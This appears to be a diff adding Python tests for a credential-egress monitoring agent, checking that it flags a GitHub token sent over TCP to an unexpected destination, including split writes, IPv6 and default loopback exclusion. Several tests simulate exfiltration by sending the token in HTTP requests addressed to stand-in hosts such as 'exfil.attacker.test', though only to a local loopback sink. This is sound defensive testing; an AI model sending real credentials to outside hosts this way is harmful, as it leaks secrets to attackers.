@@ -1,0 +1,159 @@
+# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
+"""Outbound TCP: credentials in what processes send, attributed to the destination."""
+import os
+import socket
+import threading
+import time
+
+from cwtest import Agent, github_token, require_root
+
+
+class Sink:
+    """A loopback TCP server that reads whatever comes and answers each request with 200."""
+
+    def __init__(self):
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        self.t = threading.Thread(target=self._serve, daemon=True)
+        self.t.start()
+
+    def _serve(self):
+        while True:
+            try:
+                c, _ = self.sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._conn, args=(c,), daemon=True).start()
+
+    def _conn(self, c):
+        with c:
+            while True:
+                try:
+                    data = c.recv(65536)
+                except OSError:
+                    return
+                if not data:
+                    return
+                if b"\r\n\r\n" in data:
+                    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+
+    def close(self):
+        self.sock.close()
+
+
+def send_request(port, host, token, pieces=1, family=socket.AF_INET, addr="127.0.0.1"):
+    """An HTTP request with the token in an Authorization header, written in `pieces` sends
+    (split inside the token when pieces > 1). Returns the client's local port."""
+    req = ("GET /v1/user HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n"
+           "User-Agent: cw-test\r\n\r\n" % (host, token)).encode()
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.connect((addr, port))
+    if pieces == 1:
+        s.sendall(req)
+    else:
+        cut = req.index(token.encode()) + len(token) // 2
+        s.send(req[:cut])
+        time.sleep(0.05)
+        s.send(req[cut:])
+    s.recv(4096)
+    s.close()
+
+
+def egress(lines, port):
+    return [l for l in lines if l.get("destination", {}).get("port") == port]
+
+
+def test_unexpected_destination_alert_and_allowed_destination_observation():
+    require_root()
+    sink = Sink()
+    agent = Agent("--include-loopback", "--events")
+    token = github_token()
+    try:
+        send_request(sink.port, "api.github.com", token)
+        send_request(sink.port, "collector.attacker.test", token)
+        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port,
+                              count=2)
+    finally:
+        agent.stop()
+        sink.close()
+    assert len(hits) == 2, agent.lines
+    ok, bad = hits
+    assert ok["event"]["action"] == "credential-sent" and ok["event"]["kind"] == "event"
+    assert ok["destination"]["domain"] == "api.github.com"
+    assert bad["event"]["action"] == "credential-unexpected-destination"
+    assert bad["event"]["kind"] == "alert"
+    assert bad["destination"] == {"ip": "127.0.0.1", "port": sink.port,
+                                  "domain": "collector.attacker.test"}
+    assert bad["network"] == {"transport": "tcp", "direction": "egress", "protocol": "http"}
+    assert bad["tls"] == {"library": "plaintext"}
+    assert bad["rule"]["id"] == "github-pat-classic"
+    assert bad["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    assert bad["credential"]["origin"] == "egress"
+    assert bad["process"]["pid"] == os.getpid()
+    assert bad["process"]["executable"] == os.path.realpath("/proc/self/exe")
+    assert bad["threat"]["technique"]["id"] == "NHI-02"
+    agent.assert_no_plaintext(token)
+
+
+def test_token_split_across_two_writes_is_found():
+    require_root()
+    sink = Sink()
+    agent = Agent("--include-loopback")
+    token = github_token()
+    try:
+        send_request(sink.port, "exfil.attacker.test", token, pieces=2)
+        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
+    finally:
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.lines
+    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    agent.assert_no_plaintext(token)
+
+
+def test_ipv6_loopback_connection():
+    require_root()
+    s6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    s6.bind(("::1", 0))
+    s6.listen(4)
+    port = s6.getsockname()[1]
+
+    def serve():
+        c, _ = s6.accept()
+        with c:
+            c.recv(65536)
+            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+    t = threading.Thread(target=serve, daemon=True)
+    t.start()
+    agent = Agent("--include-loopback")
+    token = github_token()
+    try:
+        send_request(port, "exfil.attacker.test", token, family=socket.AF_INET6, addr="::1")
+        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == port)
+    finally:
+        agent.stop()
+        s6.close()
+    assert len(hits) == 1, agent.lines
+    assert hits[0]["destination"]["ip"] == "::1"
+
+
+def test_loopback_is_not_watched_by_default():
+    require_root()
+    sink = Sink()
+    agent = Agent("--events")
+    token = github_token()
+    try:
+        send_request(sink.port, "exfil.attacker.test", token)
+        # A marker after it: once the marker's argv alert is out, the request was processed.
+        marker = github_token()
+        import subprocess
+        p = subprocess.Popen(["/bin/true", marker])
+        p.wait()
+        assert agent.wait_for(lambda l: l["process"]["pid"] == p.pid)
+    finally:
+        agent.stop()
+        sink.close()
+    assert not egress(agent.lines, sink.port), agent.lines
